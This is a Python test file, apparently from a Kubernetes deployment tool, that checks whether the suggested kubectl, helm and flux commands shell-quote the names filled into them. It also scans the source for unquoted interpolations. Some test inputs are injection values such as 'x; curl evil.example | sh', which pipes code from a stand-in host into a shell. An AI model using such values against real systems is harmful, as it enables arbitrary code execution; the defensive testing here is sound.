"""Commands that people are told to run: whatever a name has in it stays one word of the command."""

from __future__ import annotations

import ast
import re
import shlex
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pytest

import seatrial
from seatrial.core.holds import HoldCode, hold
from seatrial.core.model.deployers import FOLLOWING, Follower, Stop
from seatrial.core.text.commands import filled
from seatrial.core.words import explain
from tests.core.words.explained import needs

SOURCE = Path(seatrial.__file__).parent
COMMAND = re.compile(r"(\$ )?(kubectl|helm|argocd|flux|oc|seatrial|git) ")


def spans(text: str) -> list[str]:
    return text.split("`")[1::2]


def test_what_fills_a_gap_of_a_command_is_one_word_of_it() -> None:
    assert filled("{a}: run `helm upgrade {a} -n {b}`.", {"a": "x; id", "b": "y"}) == (
        "x; id: run `helm upgrade 'x; id' -n y`."
    )


def test_a_gap_that_is_the_whole_command_is_left_as_it_was_made() -> None:
    assert filled("Run `{command}` or `{command} -v`.", {"command": "a b"}) == "Run `a b` or `'a b' -v`."


def test_braces_and_counts_are_filled_as_ever() -> None:
    assert filled("`kubectl patch -p '{{\"a\":1}}' {n}` {n:>3}", {"n": "x"}) == "`kubectl patch -p '{\"a\":1}' x`   x"


@pytest.mark.parametrize("code", list(HoldCode))
def test_no_hold_has_a_command_that_a_hostile_name_could_end(code: HoldCode) -> None:
    """Compared with the same hold of harmless names: every command has as many words, whatever is in them."""

    def said(value: str) -> list[str]:
        # What is made of words already is quoted by those who make it.
        params = dict.fromkeys(needs(code), value) | {"names": "n1", "whom": "", "command": "c", "get": "g"}
        return [each for each in spans(explain.next_step(hold(value, code, params))) if COMMAND.match(each)]

    plain, hostile = said("harmless"), said("x; curl evil.example | sh")
    assert [len(shlex.split(each)) for each in hostile] == [len(shlex.split(each)) for each in plain]


@pytest.mark.parametrize("kind", sorted(FOLLOWING))
def test_what_is_said_of_a_follower_quotes_its_name(kind: str) -> None:
    one = Follower(kind=kind, namespace="flux", name="x; id")
    said = [one.look, one.restore, one.mend, *(replace(one, stop=stop).resume for stop in Stop)]
    assert all("'x; id'" in each for text in said for each in spans(text) if COMMAND.match(each) and "x; id" in each)
    assert "'x; id'" in one.look


# ── all that is written in the source ────────────────────────────────────────────────────────────────────────────────


def unquoted(path: Path) -> Iterator[str]:
    """The gaps of commands in f-strings that are filled with anything but a quoted word, or a word of our own."""
    for made in (each for each in ast.walk(ast.parse(path.read_text())) if isinstance(each, ast.JoinedStr)):
        said, is_command = "", False
        for part in made.values:
            if isinstance(part, ast.Constant):
                said += str(part.value)
                is_command = said.count("`") % 2 == 1 and bool(COMMAND.match(said.rpartition("`")[2]))
            elif isinstance(part, ast.FormattedValue):
                if is_command and not _is_safe(part.value):
                    yield f"{path.relative_to(SOURCE)}:{part.lineno}: {ast.unparse(part.value)}"
                said += "_"


def _is_safe(value: ast.expr) -> bool:
    """Whether it is quoted, one of our constants, or the value of a closed set."""
    text = ast.unparse(value)
    is_constant = text.rpartition(".")[2].isupper()
    return text.startswith(("quote(", "shlex.quote(", "shlex.join(")) or is_constant or text.endswith(".value")


def test_every_command_in_the_source_quotes_what_fills_it() -> None:
    assert [each for path in sorted(SOURCE.rglob("*.py")) for each in unquoted(path)] == []
